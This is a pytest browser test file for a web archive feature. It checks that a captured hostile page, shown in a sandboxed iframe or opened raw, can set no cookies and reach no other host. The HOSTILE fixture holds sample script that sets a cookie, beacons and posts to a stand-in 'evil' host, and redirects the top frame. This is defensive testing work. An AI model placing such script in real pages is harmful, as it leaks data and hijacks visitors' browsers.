"""In a real browser: a hostile archived page does nothing, on its archived copy page or alone.

The page tries everything an archived page might: set a cookie, call fetch, navigate the top
frame, refresh itself elsewhere, post a form elsewhere, load CSS and images from another host.
A second loopback server stands for "elsewhere" and counts what reaches it.
"""

import time

import pytest
from django.utils import timezone

from claims.models import Claim, Verdict
from sources.services import capture_request, capture_run
from tests.factories import ClaimFactory, SourceFactory, VerdictFactory
from tests.loopback import LoopbackServer, page

pytestmark = pytest.mark.django_db(transaction=True, serialized_rollback=True)

HOSTILE = """<html><head><title>Ceasefire holds</title>
<meta http-equiv="refresh" content="0;url={evil}/refresh">
<link rel="stylesheet" href="{evil}/sheet.css">
<style>body {{ background: url({evil}/background.png) }}</style>
</head><body><article><h1>Ceasefire holds</h1>
<p id="words">The ceasefire held overnight in most of the region, officials said.</p>
<img src="{evil}/pixel.gif" alt="">
<form id="leak" method="post" action="{evil}/post"><input name="q" value="x">
<button id="send" type="submit">Send</button></form>
<script>
document.cookie = "owned=1; path=/";
fetch("{evil}/fetch");
new Image().src = "{evil}/beacon";
document.getElementById("leak").submit();
top.location = "{evil}/top";
</script></article></body></html>"""


@pytest.fixture
def evil():
    with LoopbackServer() as server:
        yield server


@pytest.fixture
def hostile_capture(settings, tmp_path, evil):
    settings.MEDIA_ROOT = str(tmp_path)
    with LoopbackServer() as origin:
        settings.ARCHIVE_ALLOWED_NETWORKS = ["127.0.0.0/8"]
        settings.ARCHIVE_ALLOWED_PORTS = [80, 443, origin.port]
        origin.route("/ceasefire", page(HOSTILE.format(evil=evil.url("")).encode()))
        source = SourceFactory(url=origin.url("/ceasefire"))
        capture = capture_run(capture_id=capture_request(source=source, send=False).pk)
    claim = ClaimFactory(appearance=source, status=Claim.Status.PUBLISHED)
    VerdictFactory(claim=claim, status=Verdict.Status.PUBLISHED, published_at=timezone.now())
    evil.requests.clear()
    return capture


def _settle(page) -> None:
    # Long enough for a refresh, a fetch or a navigation to have gone out had it been allowed.
    time.sleep(1.5)
    page.wait_for_load_state("load")


def test_a_hostile_archived_page_does_nothing_in_its_frame(new_page, hostile_capture, evil):
    page = new_page()
    url = f"/archive/{hostile_capture.pk}/"
    page.goto(url)
    frame = page.frame_locator("iframe.archived-frame")
    assert "ceasefire held overnight" in frame.locator("#words").inner_text()
    frame.locator("#send").click(no_wait_after=True)
    _settle(page)

    assert page.url.endswith(url), "the top frame was not navigated"
    assert evil.requests == [], "nothing reached the other host"
    assert not any(c["name"] == "owned" for c in page.context.cookies())
    assert "ceasefire held overnight" in frame.locator("#words").inner_text(), "no refresh"


def test_a_hostile_archived_page_does_nothing_opened_alone(new_page, hostile_capture, evil):
    page = new_page()
    raw = f"/archive/{hostile_capture.pk}/raw"
    page.goto(raw)
    _settle(page)
    assert page.url.endswith(raw)
    assert "ceasefire held overnight" in page.inner_text("#words")
    assert evil.requests == []
    assert not any(c["name"] == "owned" for c in page.context.cookies())
